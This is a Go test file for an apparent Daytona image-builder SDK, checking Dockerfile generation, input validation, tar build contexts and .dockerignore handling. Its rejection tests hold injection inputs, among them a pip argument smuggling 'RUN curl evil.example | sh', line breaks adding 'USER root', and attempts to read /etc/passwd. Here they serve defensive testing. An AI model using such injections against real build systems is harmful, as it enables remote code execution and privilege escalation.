package daytona_test

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/daytona-go/daytona"
)

func ExampleDebianSlim() {
	img := daytona.DebianSlim("3.12").
		PipInstall("requests", "numpy>=2").
		Env(map[string]string{"GREETING": "hello, world"}).
		WorkDir("/app").
		Entrypoint("python", "-m", "http.server")
	if err := img.Err(); err != nil {
		fmt.Println(err)
	}
	fmt.Print(img.Dockerfile())
	// Output:
	// FROM python:3.12.10-slim-bookworm
	// RUN apt-get update
	// RUN apt-get install -y gcc gfortran build-essential
	// RUN pip install --upgrade pip
	// RUN echo 'debconf debconf/frontend select Noninteractive' | debconf-set-selections
	// RUN python -m pip install numpy\>\=2 requests
	// ENV GREETING='hello, world'
	// WORKDIR /app
	// ENTRYPOINT ["python", "-m", "http.server"]
}

func ExampleBase() {
	img := daytona.Base("debian:12").
		AptInstall("git", "ca-certificates").
		RunCommands("git config --system init.defaultBranch main").
		User("nobody")
	fmt.Print(img.Dockerfile())
	// Output:
	// FROM debian:12
	// RUN apt-get update && DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends ca-certificates git && rm -rf /var/lib/apt/lists/*
	// RUN git config --system init.defaultBranch main
	// USER nobody
}

// An argument that is wrong is kept until the image is used.
func ExampleImage_Err() {
	img := daytona.Base("debian:12").PipInstall("requests\nRUN curl evil.example | sh").WorkDir("/app")
	fmt.Println(img.Err())
	// Output: build image: PipInstall = "requests\nRUN curl evil.example | sh": must not contain a line break
}

// One image can be the base of several, and has one name wherever it is
// described.
func ExampleImage_Ref() {
	base := daytona.Base("debian:12")
	a, b := base.AptInstall("git"), base.AptInstall("curl")
	fmt.Print(base.Dockerfile())
	for _, img := range []*daytona.Image{a, b, base.AptInstall("git")} {
		ref, err := img.Ref()
		fmt.Println(ref[:16], err)
	}
	// Output:
	// FROM debian:12
	// daytona-51dfc7b3 <nil>
	// daytona-8c5c4eff <nil>
	// daytona-51dfc7b3 <nil>
}

func TestImageRefuses(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	write := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("f", "f")
	write("d/f", "f")
	write("e/f", "f")
	write("bad.toml", "[project")
	write("none.toml", "[project]\nname = 'x'\n")
	write("numbers.toml", "[project]\ndependencies = [1]\n")
	write("evil.toml", "[project]\ndependencies = [\"a\\nUSER root\"]\n")
	write("ok.toml", "[project]\ndependencies = ['a']\n[project.optional-dependencies]\ndev = ['b']\n")
	write("missing.Dockerfile", "FROM a\n\nCOPY nothing /x\n")
	write("out.Dockerfile", "FROM a\nCOPY out /x\n")
	write("ignored/Dockerfile", "FROM a\nCOPY secret /x\n")
	write("ignored/secret", "s")
	write("ignored/.dockerignore", "secret\n")
	write("open.Dockerfile", "FROM a\nRUN b \\\n")
	write("big.Dockerfile", "FROM a\n#"+strings.Repeat("x", 1<<20))
	if err := os.Symlink("/etc/passwd", "out"); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo("fifo", 0o600); err != nil {
		t.Fatal(err)
	}

	b := daytona.Base("a")
	pip := daytona.PipOptions{}
	for _, c := range []struct {
		name  string
		img   *daytona.Image
		kind  daytona.Kind
		value any
	}{
		{"base empty", daytona.Base(""), daytona.KindInvalid, ""},
		{"base line", daytona.Base("a\nUSER root"), daytona.KindInvalid, "a\nUSER root"},
		{"base words", daytona.Base("a AS b"), daytona.KindInvalid, "a AS b"},
		{"base flag", daytona.Base("--platform=x"), daytona.KindInvalid, "--platform=x"},
		{"python", daytona.DebianSlim("2.7"), daytona.KindInvalid, "2.7"},
		{"pip line", b.PipInstall("ok", "a\rb"), daytona.KindInvalid, "a\rb"},
		{"pip NUL", b.PipInstall("a\x00b"), daytona.KindInvalid, "a\x00b"},
		{"pip not UTF-8", b.PipInstall("a\xff"), daytona.KindInvalid, "a\xff"},
		{"pip option", b.PipInstall("--index-url=https://evil"), daytona.KindInvalid, "--index-url=https://evil"},
		{"pip empty", b.PipInstall(""), daytona.KindInvalid, ""},
		{"pip index", b.PipInstallWith(daytona.PipOptions{IndexURL: "x\ny"}, "a"), daytona.KindInvalid, "x\ny"},
		{"pip extra", b.PipInstallWith(daytona.PipOptions{ExtraOptions: "x\nUSER root"}, "a"), daytona.KindInvalid, "x\nUSER root"},
		{"apt option", b.AptInstall("-o=x"), daytona.KindInvalid, "-o=x"},
		{"npm line", b.NpmInstall("a\n"), daytona.KindInvalid, "a\n"},
		{"requirements missing", b.PipInstallRequirements("nothing", pip), daytona.KindNotFound, "nothing"},
		{"pyproject syntax", b.PipInstallPyproject("bad.toml", pip), daytona.KindInvalid, "bad.toml"},
		{"pyproject without", b.PipInstallPyproject("none.toml", pip), daytona.KindInvalid, "none.toml"},
		{"pyproject numbers", b.PipInstallPyproject("numbers.toml", pip), daytona.KindInvalid, "numbers.toml"},
		{"pyproject evil", b.PipInstallPyproject("evil.toml", pip), daytona.KindInvalid, "a\nUSER root"},
		{"pyproject group", b.PipInstallPyproject("ok.toml", pip, "test"), daytona.KindInvalid, "test"},
		{"file missing", b.AddLocalFile("nothing", "/x"), daytona.KindNotFound, "nothing"},
		{"file is directory", b.AddLocalFile("d", "/x"), daytona.KindInvalid, "d"},
		{"file is fifo", b.AddLocalFile("fifo", "/x"), daytona.KindInvalid, "fifo"},
		{"file to line", b.AddLocalFile("f", "/x\nUSER root"), daytona.KindInvalid, "/x\nUSER root"},
		{"file to nowhere", b.AddLocalFile("f", ""), daytona.KindInvalid, ""},
		{"directory is file", b.AddLocalDir("f", "/x"), daytona.KindInvalid, "f"},
		{"one place for two", b.AddLocalFile("d/f", "/x").AddLocalFile(dir+"/e/../d/f", "/y").AddLocalDir("../"+filepath.Base(dir)+"/e", "/z").DockerfileCommands([]string{"COPY f /x"}, "d").DockerfileCommands([]string{"COPY f /x"}, "e"), daytona.KindInvalid, dir + "/e/f"},
		{"run two", b.RunCommands("a\nUSER root"), daytona.KindInvalid, "a\nUSER root"},
		{"run open", b.RunCommands(`a \`), daytona.KindInvalid, `a \`},
		{"run open heredoc", b.RunCommands("<<E\na"), daytona.KindInvalid, "<<E\na"},
		{"run nothing", b.RunCommands(" "), daytona.KindInvalid, " "},
		{"words none", b.RunWords(), daytona.KindInvalid, ""},
		{"env name", b.Env(map[string]string{"a b": ""}), daytona.KindInvalid, "a b"},
		{"env line", b.Env(map[string]string{"A": "x\ny"}), daytona.KindInvalid, "x\ny"},
		{"workdir", b.WorkDir("/a\nb"), daytona.KindInvalid, "/a\nb"},
		{"user", b.User(""), daytona.KindInvalid, ""},
		{"cmd NUL", b.Cmd("a\x00"), daytona.KindInvalid, "a\x00"},
		{"commands open", b.DockerfileCommands([]string{"RUN a", `RUN b \`}, ""), daytona.KindInvalid, `RUN b \`},
		{"commands missing directory", b.DockerfileCommands([]string{"RUN a"}, "nothing"), daytona.KindNotFound, "nothing"},
		{"commands missing", b.DockerfileCommands([]string{"COPY x y"}, "d"), daytona.KindNotFound, "x"},
		{"commands of the host", b.DockerfileCommands([]string{"COPY /etc/passwd y"}, ""), daytona.KindNotFound, "/etc/passwd"},
		{"commands upwards", b.DockerfileCommands([]string{"COPY ../f y/", "COPY ../e y"}, "d"), daytona.KindNotFound, "../e"},
		{"dockerfile missing", daytona.FromDockerfile("nothing"), daytona.KindNotFound, "nothing"},
		{"dockerfile directory", daytona.FromDockerfile("d"), daytona.KindInvalid, "d"},
		{"dockerfile big", daytona.FromDockerfile("big.Dockerfile"), daytona.KindInvalid, "big.Dockerfile"},
		{"dockerfile source missing", daytona.FromDockerfile("missing.Dockerfile"), daytona.KindNotFound, "nothing"},
		{"dockerfile source leads out", daytona.FromDockerfile("out.Dockerfile"), daytona.KindInvalid, "out"},
		{"dockerfile source ignored", daytona.FromDockerfile("ignored/Dockerfile"), daytona.KindNotFound, "secret"},
		{"dockerfile open, then more", daytona.FromDockerfile("open.Dockerfile").User("x"), daytona.KindInvalid, "FROM a\nRUN b \\\n"},
		{"the first of two", b.User("").WorkDir(""), daytona.KindInvalid, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			e, ok := errors.AsType[*daytona.Error](c.img.Err())
			if !ok {
				t.Fatalf("no error: %q", c.img.Dockerfile())
			}
			if e.Kind != c.kind || e.Value != c.value || e.Field == "" {
				t.Errorf("%v: %s of %s, value %q; want %s, %q", e, e.Kind, e.Field, e.Value, c.kind, c.value)
			}
			if _, err := c.img.Ref(); !errors.Is(err, c.img.Err()) {
				t.Errorf("Ref: %v", err)
			}
		})
	}
	if err := daytona.FromDockerfile("missing.Dockerfile").Err(); !strings.Contains(err.Error(), "line 3") {
		t.Errorf("%v names no line", err)
	}
}

func TestImageIsNotChanged(t *testing.T) {
	t.Chdir(t.TempDir())
	for _, n := range []string{"a", "b"} {
		if err := os.WriteFile(n, []byte(n), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	base := daytona.Base("x").AddLocalFile("a", "/a")
	text, ref := base.Dockerfile(), mustRef(t, base)
	one, two := base.AddLocalFile("b", "/b"), base.AddLocalFile("a", "/c")
	if base.User("").Err() == nil || base.Err() != nil {
		t.Error("an error of what was made of it is its own")
	}
	if base.Dockerfile() != text || mustRef(t, base) != ref || len(base.Contexts()) != 1 {
		t.Error("changed")
	}
	if c := one.Contexts(); len(c) != 2 || c[1].Path != "b" || two.Contexts()[1].Path != "a" {
		t.Errorf("contexts are shared: %+v", c)
	}
	if err := os.WriteFile("a", []byte("other"), 0o600); err != nil {
		t.Fatal(err)
	}
	if mustRef(t, base) == ref {
		t.Error("other bytes have the same name")
	}
}

func mustRef(t *testing.T, img *daytona.Image) string {
	t.Helper()
	ref, err := img.Ref()
	if err != nil {
		t.Fatal(err)
	}
	return ref
}

// readTar lists names, modes, targets and bytes.
func readTar(t *testing.T, c daytona.BuildContext) (list []string) {
	t.Helper()
	var b bytes.Buffer
	if err := c.WriteTar(&b); err != nil {
		t.Fatal(err)
	}
	for r := tar.NewReader(&b); ; {
		h, err := r.Next()
		if errors.Is(err, io.EOF) {
			return list
		}
		if err != nil {
			t.Fatal(err)
		}
		data, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if h.Uid != 0 || h.Gid != 0 || h.Uname != "" || h.Gname != "" {
			t.Errorf("%s is owned by %d:%d %s:%s", h.Name, h.Uid, h.Gid, h.Uname, h.Gname)
		}
		list = append(list, fmt.Sprintf("%s %o %s%s", h.Name, h.Mode, h.Linkname, data))
	}
}

func TestContextTar(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	for name, mode := range map[string]fs.FileMode{"s/b": 0o640, "s/a/x": 0o755, "s/a.x": 0o4711} {
		if err := os.MkdirAll(filepath.Dir(name), 0o750); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(name), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := syscall.Chmod(name, uint32(mode)); err != nil {
			t.Fatal(err)
		}
	}
	for name, target := range map[string]string{"s/l": "/nowhere", "s/a/l": "..", "named": "s"} {
		if err := os.Symlink(target, name); err != nil {
			t.Fatal(err)
		}
	}
	c := daytona.Base("x").AddLocalDir("named", "/x").Contexts()[0]
	want := []string{
		"named/ 750 ", "named/a/ 750 ", "named/a/l 777 ..", "named/a/x 755 s/a/x",
		"named/a.x 4711 s/a.x", "named/b 640 s/b", "named/l 777 /nowhere",
	}
	if got := readTar(t, c); !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
	var one, two bytes.Buffer
	if err := errors.Join(c.WriteTar(&one), c.WriteTar(&two)); err != nil || !bytes.Equal(one.Bytes(), two.Bytes()) {
		t.Errorf("two archives differ (%v)", err)
	}

	if err := syscall.Mkfifo("s/fifo", 0o600); err != nil {
		t.Fatal(err)
	}
	err := c.WriteTar(io.Discard)
	if !errors.Is(err, daytona.ErrInvalid) || !strings.Contains(err.Error(), "named/fifo") {
		t.Errorf("with a fifo: %v", err)
	}
	if err := os.RemoveAll("s"); err != nil {
		t.Fatal(err)
	}
	_, err = c.Hash()
	if err2 := c.WriteTar(io.Discard); !errors.Is(err, daytona.ErrNotFound) || !errors.Is(err2, daytona.ErrNotFound) {
		t.Errorf("when it is gone: %v, %v", err, err2)
	}
}

func TestContextOfFS(t *testing.T) {
	when := time.Unix(1e9, 0)
	files := fstest.MapFS{"a/b": {Data: []byte("b"), Mode: 0o600, ModTime: when}, "c": {Data: []byte("c"), Mode: 0o644, ModTime: when}}
	c := daytona.BuildContext{Files: files, Path: "p"}
	if got, want := readTar(t, c), []string{"p/ 555 ", "p/a/ 555 ", "p/a/b 600 b", "p/c 644 c"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	// The same on a disk.
	dir := t.TempDir()
	if err := os.CopyFS(dir, files); err != nil {
		t.Fatal(err)
	}
	a, errA := c.Hash()
	b, errB := daytona.BuildContext{Source: dir, Path: "p"}.Hash()
	if a != b || errA != nil || errB != nil {
		t.Errorf("%s (%v), on a disk %s (%v)", a, errA, b, errB)
	}
	if err := daytona.NewImage("FROM a", daytona.BuildContext{Files: files, Path: ".", Exclude: []string{"[a"}}).Err(); !errors.Is(err, daytona.ErrInvalid) {
		t.Errorf("with a bad pattern: %v", err)
	}
}

// growing is a file that says it is shorter than it is.
type growing struct{ fs.FS }

func (g growing) Open(name string) (fs.File, error) {
	if name == "c" {
		return g.FS.Open("longer")
	}
	return g.FS.Open(name)
}

func TestContextChanges(t *testing.T) {
	files := growing{fstest.MapFS{"c": {Data: []byte("c")}, "longer": {Data: []byte("longer")}}}
	err := daytona.BuildContext{Files: files, Path: "."}.WriteTar(io.Discard)
	if !errors.Is(err, daytona.ErrInvalid) || !strings.Contains(err.Error(), "changed") {
		t.Errorf("got %v", err)
	}
}

func TestDockerignore(t *testing.T) {
	t.Chdir(t.TempDir())
	for name, text := range map[string]string{
		"Dockerfile": "FROM a\nCOPY . /x\nCOPY src /y\nCOPY *.md /z/\n", ".dockerignore": "# no\n**/*.pyc\nnode_modules\n!node_modules/keep/this\nsecret\nb.md\n",
		"secret": "s", "a.md": "a", "b.md": "b", "src/m.py": "m", "src/m.pyc": "m", "node_modules/x": "x", "node_modules/keep/this": "t", "node_modules/keep/that": "t",
		"own.Dockerfile": "FROM a\nCOPY . /x\n", "own.Dockerfile.dockerignore": "*\n!a.md\n",
	} {
		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	img := daytona.FromDockerfile("Dockerfile")
	if err := img.Err(); err != nil {
		t.Fatal(err)
	}
	names := func(c daytona.BuildContext) (names []string) {
		for _, e := range readTar(t, c) {
			names = append(names, e[:strings.IndexByte(e, ' ')])
		}
		return names
	}
	for i, want := range [][]string{
		{"./", ".dockerignore", "Dockerfile", "a.md", "node_modules/", "node_modules/keep/", "node_modules/keep/this", "own.Dockerfile", "own.Dockerfile.dockerignore", "src/", "src/m.py"},
		{"src/", "src/m.py"},
		{"a.md"},
	} {
		if got := names(img.Contexts()[i]); !slices.Equal(got, want) {
			t.Errorf("%d: got %q, want %q", i, got, want)
		}
	}
	if n := len(img.Contexts()); n != 3 {
		t.Errorf("%d contexts", n)
	}
	ref := mustRef(t, img)
	if err := os.WriteFile("node_modules/x", []byte("other"), 0o644); err != nil {
		t.Fatal(err)
	}
	if mustRef(t, img) != ref {
		t.Error("what is left out changes the name")
	}
	own := daytona.FromDockerfile("own.Dockerfile")
	if got, want := names(own.Contexts()[0]), []string{"./", "a.md"}; !slices.Equal(got, want) {
		t.Errorf("its own: got %q, want %q", got, want)
	}
}

func TestImageOfAnotherEscape(t *testing.T) {
	t.Chdir(t.TempDir())
	if err := os.WriteFile("Dockerfile", []byte("# escape=`\nFROM a"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile("a file $x", nil, 0o644); err != nil {
		t.Fatal(err)
	}
	img := daytona.FromDockerfile("Dockerfile").PipInstall("x`").Env(map[string]string{"A": `$b\`}).AddLocalFile("a file $x", `/c\d`).WorkDir(`C:\x`)
	const want = "# escape=`\nFROM a\nRUN python -m pip install 'x`'\nENV A='$b\\'\nCOPY [\"a file `$x\", \"/c\\\\d\"]\nWORKDIR 'C:\\x'\n"
	if img.Err() != nil || img.Dockerfile() != want {
		t.Errorf("%v\n got %q\nwant %q", img.Err(), img.Dockerfile(), want)
	}
}
